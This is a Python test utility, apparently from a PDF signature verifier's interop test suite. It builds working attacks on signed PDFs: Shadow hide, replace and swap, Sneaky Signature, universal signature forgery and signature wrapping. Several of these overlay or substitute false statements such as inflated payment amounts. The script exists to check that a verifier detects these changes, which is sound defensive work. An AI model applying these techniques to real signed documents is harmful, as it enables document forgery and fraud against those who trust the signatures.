#!/usr/bin/env python3
"""attack.py - incremental updates that editors and attackers append to signed PDFs.

Used by tests/interop/pades.sh and tests/interop/pdf_attacks.sh to check that
eid-verify reports what a later revision changed.  Standard library only (and
the openssl command for the one update that signs).  Works on files whose
last revision has a classic xref table (tests/pdf/pdfgen.py output and what
eid-sign appends to it).

Subcommands (IN is read, OUT written; the prepare-* ones run before signing):
  content IN OUT             replace the first page's content stream
  page IN OUT                add /Rotate 90 to the first page
  catalog IN OUT             add an /OpenAction to the catalog
  drop-perms IN OUT          remove /Perms from the catalog (a certification's mark)
  font IN OUT                replace the font of the first page (Courier for Helvetica)
  usf IN OUT ENTRIES         add a signature field whose signature dictionary has ENTRIES
  wrap IN OUT                widen the last signature's /ByteRange gap by 40 bytes
  annot IN OUT SUBTYPE       add an annotation with an appearance over the first page's text
  sneaky IN OUT CERT KEY     add a visible signature field drawing over the page, signed
                             with CERT/KEY by openssl, with int.crt beside CERT if there
                             (the Sneaky Signature attack)
  prepare-hide IN OUT        an overlay hiding the page text, and a second, empty
                             definition of the overlay that the xref does not use yet
  hide IN OUT                point the overlay's xref entry at its empty definition
                             (no new object: the Shadow "hide" attack)
  prepare-replace IN OUT     a filled-in text field "Amount" on the first page
  replace IN OUT             change that field's value and appearance (Shadow "replace")
  prepare-swap IN OUT        a second, unreferenced page tree with its own page
  swap IN OUT                the catalog names that page tree (Shadow "hide-and-replace")
  swap-root IN OUT           a new catalog naming it becomes the trailer's /Root
"""

import os
import re
import subprocess
import sys
import tempfile


def die(msg):
    sys.stderr.write("attack.py: error: %s\n" % msg)
    sys.exit(1)


class Doc:
    def __init__(self, path):
        self.d = open(path, "rb").read()
        trailers = re.findall(rb"trailer\s*(<<.*?>>)\s*startxref", self.d, re.S)
        if not trailers:
            die("%s: no classic trailer" % path)
        self.trailer = trailers[-1]
        self.prev = int(re.findall(rb"startxref\s+(\d+)", self.d)[-1])
        self.size = int(re.search(rb"/Size (\d+)", self.trailer).group(1))
        self.root = int(re.search(rb"/Root (\d+) \d+ R", self.trailer).group(1))
        self.page = int(re.search(rb"(\d+) 0 obj\s*<<[^>]*?/Type\s*/Page\b(?!s)", self.d).group(1))

    def obj(self, num):
        """The newest body of object NUM (between 'obj' and 'endobj')."""
        bodies = re.findall(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % num, self.d, re.S)
        if not bodies:
            die("object %d not found" % num)
        return bodies[-1]

    def new_num(self, n=1):
        first = self.size
        self.size += n
        return first

    def revise(self, objs=None, xref_only=None, root=None):
        """Append a revision: OBJS {num: body} written out, XREF_ONLY {num:
        offset} entries pointing at bytes already in the file."""
        out = bytearray(self.d)
        if not out.endswith(b"\n"):
            out += b"\n"
        offsets = dict(xref_only or {})
        for num, body in sorted((objs or {}).items()):
            offsets[num] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
        xref = len(out)
        out += b"xref\n"
        for num in sorted(offsets):
            out += b"%d 1\n%010d 00000 n\r\n" % (num, offsets[num])
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            self.size, root or self.root, self.prev, xref)
        return bytes(out)


def stream(dict_body, data):
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def add_key(body, entry):
    """Add ENTRY before a dictionary body's final '>>'."""
    return body[: body.rindex(b">>")] + b" " + entry + b" >>"


def annots_with(d, num):
    """The first page's body with NUM appended to its /Annots (inline arrays only)."""
    page = d.obj(d.page)
    m = re.search(rb"/Annots\s*\[([^\]]*)\]", page)
    if m:
        return page[: m.start()] + b"/Annots [" + m.group(1) + b" %d 0 R]" % num + page[m.end():]
    if re.search(rb"/Annots\s+\d+ \d+ R", page):
        die("the page's /Annots is indirect")
    return add_key(page, b"/Annots [%d 0 R]" % num)


def lie_xobject(d, w, h):
    """A form XObject that paints a white box with a false statement on it."""
    text = b"1 1 1 rg 0 0 %d %d re f 0 0 0 rg BT /Helvetica 14 Tf 4 8 Td (Amount due: 1,000,000 EUR) Tj ET" % (w, h)
    return stream(b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helvetica << "
                  b"/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>" % (w, h), text)


def cmd_content(d, out):
    num = int(re.search(rb"/Contents (\d+) 0 R", d.obj(d.page)).group(1))
    return d.revise({num: stream(b"", b"BT /F1 24 Tf 72 700 Td (I owe you 1000 EUR) Tj ET")})


def cmd_page(d, out):
    return d.revise({d.page: add_key(d.obj(d.page), b"/Rotate 90")})


def cmd_catalog(d, out):
    return d.revise({d.root: add_key(d.obj(d.root), b"/OpenAction [%d 0 R /Fit]" % d.page)})


def cmd_drop_perms(d, out):
    cat = d.obj(d.root)
    m = re.search(rb"/Perms\s*<<[^>]*>>", cat)
    if not m:
        die("the catalog has no inline /Perms")
    return d.revise({d.root: cat[: m.start()] + cat[m.end():]})


def cmd_font(d, out):
    num = int(re.search(rb"/F1 (\d+) 0 R", d.obj(d.page)).group(1))
    return d.revise({num: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>"})


def cmd_usf(d, out, entries):
    sig, wid = d.new_num(2), d.size - 1
    return d.revise({
        sig: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached " + entries.encode() + b" >>",
        wid: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Forged) /V %d 0 R /Rect [0 0 0 0] /P %d 0 R >>"
             % (sig, d.page),
        d.root: add_key(d.obj(d.root), b"/AcroForm << /Fields [%d 0 R] /SigFlags 3 >>" % wid),
    })


def cmd_wrap(d, out):
    data = bytearray(d.d)
    m = list(re.finditer(rb"/ByteRange \[0 (\d{10}) (\d{10}) (\d{10})\]", data))[-1]
    a, b, c = (int(x) for x in m.groups())
    data[m.start():m.end()] = b"/ByteRange [0 %010d %010d %010d]" % (a - 40, b, c)
    return bytes(data)


def cmd_annot(d, out, subtype):
    ann, ap = d.new_num(2), d.size - 1
    body = (b"<< /Type /Annot /Subtype /%s /Rect [70 690 400 720] /F 4 /Contents (note) "
            b"/DA (/Helv 14 Tf 0 g) /AP << /N %d 0 R >> >>" % (subtype.encode(), ap))
    return d.revise({ann: body, ap: lie_xobject(d, 330, 30), d.page: annots_with(d, ann)})


def form_with(d, field):
    """The catalog with FIELD added to its /AcroForm (inline or indirect), and the objects to write."""
    cat = d.obj(d.root)
    m = re.search(rb"/AcroForm (\d+) 0 R", cat)
    if m:
        fnum = int(m.group(1))
        form = d.obj(fnum)
        f = re.search(rb"/Fields\s*\[([^\]]*)\]", form)
        return {fnum: form[: f.start()] + b"/Fields [" + f.group(1) + b" %d 0 R]" % field + form[f.end():]}
    return {d.root: add_key(cat, b"/AcroForm << /Fields [%d 0 R] /SigFlags 3 >>" % field)}


def cmd_sneaky(d, out, cert, key):
    sig, wid, ap = d.new_num(3), d.size - 2, d.size - 1
    hexlen = 16384
    objs = {
        wid: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /V %d 0 R /F 4 /Rect [70 690 400 720] "
             b"/P %d 0 R /AP << /N %d 0 R >> >>" % (sig, d.page, ap),
        ap: lie_xobject(d, 330, 30),
        d.page: annots_with(d, wid),
        sig: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange "
             b"[0 0000000000 0000000000 0000000000] /Contents <" + b"0" * hexlen + b"> /M (D:20260101000000Z) >>",
    }
    objs.update(form_with(d, wid))
    data = bytearray(d.revise(objs))
    m = list(re.finditer(rb"/Contents <(0{%d})>" % hexlen, data))[-1]
    c0, c1 = m.start(1) - 1, m.end(1) + 1
    br = b"[0 %010d %010d %010d]" % (c0, c1, len(data) - c1)
    at = data.rindex(b"[0 0000000000 0000000000 0000000000]")
    data[at:at + len(br)] = br
    with tempfile.TemporaryDirectory() as tmp:
        signed = os.path.join(tmp, "ranges")
        with open(signed, "wb") as f:
            f.write(data[:c0] + data[c1:])
        chain = os.path.join(os.path.dirname(cert), "int.crt")
        der = subprocess.run(["openssl", "cms", "-sign", "-binary", "-cades", "-nosmimecap", "-outform", "DER",
                              "-in", signed, "-signer", cert, "-inkey", key]
                             + (["-certfile", chain] if os.path.exists(chain) else []),
                             check=True, stdout=subprocess.PIPE).stdout
    hx = der.hex().encode()
    if len(hx) > hexlen:
        die("signature too big")
    data[c0 + 1:c0 + 1 + len(hx)] = hx
    return bytes(data)


def cmd_prepare_hide(d, out):
    """Before signing: page 1 also draws overlay X (a white box with a false
    statement over the text); X is defined a second time, empty, after the
    xref's own definition, so that only a later xref can choose it."""
    ov, draw = d.new_num(2), d.size - 1
    page = d.obj(d.page)
    cnum = int(re.search(rb"/Contents (\d+) 0 R", page).group(1))
    page = page.replace(b"/Contents %d 0 R" % cnum, b"/Contents [%d 0 R %d 0 R]" % (cnum, draw))
    page = page.replace(b"/Font <<", b"/XObject << /Ov %d 0 R >> /Font <<" % ov)
    data = d.revise({ov: lie_xobject(d, 330, 30), draw: stream(b"", b"q 1 0 0 1 70 690 cm /Ov Do Q"),
                     d.page: page})
    empty = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 330 30]", b"")
    # the shadow definition sits in the signed bytes, before the final xref's %%EOF is read
    at = data.rindex(b"\nxref\n") + 1
    return data[:at] + b"%d 0 obj\n%s\nendobj\n" % (ov, empty) + data[at:].replace(
        b"startxref\n%d" % at, b"startxref\n%d" % (at + len(b"%d 0 obj\n%s\nendobj\n" % (ov, empty))))


def cmd_hide(d, out):
    nums = [int(x) for x in re.findall(rb"/Ov (\d+) 0 R", d.d)]
    if not nums:
        die("no overlay (run prepare-hide first)")
    ov = nums[-1]
    heads = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % ov, d.d)]
    return d.revise(xref_only={ov: heads[-1]})


def cmd_prepare_replace(d, out):
    fld, ap = d.new_num(2), d.size - 1
    objs = {
        fld: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /V (100 EUR) /F 4 /Rect [70 600 300 620] "
             b"/P %d 0 R /DA (/Helv 12 Tf 0 g) /AP << /N %d 0 R >> >>" % (d.page, ap),
        ap: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 230 20] /Resources << /Font << /Helv << /Type /Font "
                   b"/Subtype /Type1 /BaseFont /Helvetica >> >> >>",
                   b"/Tx BMC BT /Helv 12 Tf 2 5 Td (100 EUR) Tj ET EMC"),
        d.page: annots_with(d, fld),
    }
    objs.update(form_with(d, fld))
    return d.revise(objs)


def cmd_replace(d, out):
    m = list(re.finditer(rb"(\d+) 0 obj\s*(<<[^\n]*?/T \(Amount\).*?>>)\s*endobj", d.d, re.S))
    if not m:
        die("no field Amount (run prepare-replace first)")
    fld, body = int(m[-1].group(1)), m[-1].group(2)
    ap = int(re.search(rb"/N (\d+) 0 R", body).group(1))
    return d.revise({
        fld: body.replace(b"(100 EUR)", b"(1,000,000 EUR)"),
        ap: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 230 20] /Resources << /Font << /Helv << /Type /Font "
                   b"/Subtype /Type1 /BaseFont /Helvetica >> >> >>",
                   b"/Tx BMC BT /Helv 12 Tf 2 5 Td (1,000,000 EUR) Tj ET EMC"),
    })


SHADOW = 900  # the shadow objects' numbers: beyond /Size, in no xref until the attack


def cmd_prepare_swap(d, out):
    """A second page tree inside the document: pages, page and content,
    written as plain objects that nothing references."""
    pages, page, content = SHADOW, SHADOW + 1, SHADOW + 2
    data = d.d
    shadow = b""
    for num, body in (
        (pages, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Shadow true >>" % page),
        (page, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << "
               b"/F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>" % (pages, content)),
        (content, stream(b"", b"BT /F1 20 Tf 72 760 Td (I sell my house for 1 EUR) Tj ET")),
    ):
        shadow += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    at = data.rindex(b"\nxref\n") + 1
    data = data[:at] + shadow + data[at:]
    return data.replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(shadow)))


def shadow_pages(d):
    """The xref entries that bring the shadow objects in."""
    entries = {}
    for num in range(SHADOW, SHADOW + 3):
        heads = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, d.d)]
        if not heads:
            die("no shadow page tree (run prepare-swap first)")
        entries[num] = heads[-1]
    d.size = max(d.size, SHADOW + 3)
    return SHADOW, entries


def cmd_swap(d, out):
    """The catalog, saved again, now names the shadow page tree."""
    pages, entries = shadow_pages(d)
    cat = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % pages, d.obj(d.root), count=1)
    return d.revise({d.root: cat}, xref_only=entries)


def cmd_swap_root(d, out):
    """A new catalog (a copy naming the shadow page tree) becomes /Root."""
    pages, entries = shadow_pages(d)
    num = d.new_num()
    cat = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % pages, d.obj(d.root), count=1)
    return d.revise({num: cat}, xref_only=entries, root=num)


COMMANDS = {
    "content": (cmd_content, 0), "page": (cmd_page, 0), "catalog": (cmd_catalog, 0),
    "drop-perms": (cmd_drop_perms, 0), "font": (cmd_font, 0), "usf": (cmd_usf, 1), "wrap": (cmd_wrap, 0),
    "annot": (cmd_annot, 1), "sneaky": (cmd_sneaky, 2), "prepare-hide": (cmd_prepare_hide, 0),
    "hide": (cmd_hide, 0), "prepare-replace": (cmd_prepare_replace, 0), "replace": (cmd_replace, 0),
    "prepare-swap": (cmd_prepare_swap, 0), "swap": (cmd_swap, 0), "swap-root": (cmd_swap_root, 0),
}


def main(argv):
    if len(argv) < 4 or argv[1] not in COMMANDS or len(argv) - 4 != COMMANDS[argv[1]][1]:
        sys.stderr.write(__doc__)
        sys.exit(2)
    fn = COMMANDS[argv[1]][0]
    data = fn(Doc(argv[2]), argv[3], *argv[4:])
    with open(argv[3], "wb") as f:
        f.write(data)


if __name__ == "__main__":
    main(sys.argv)
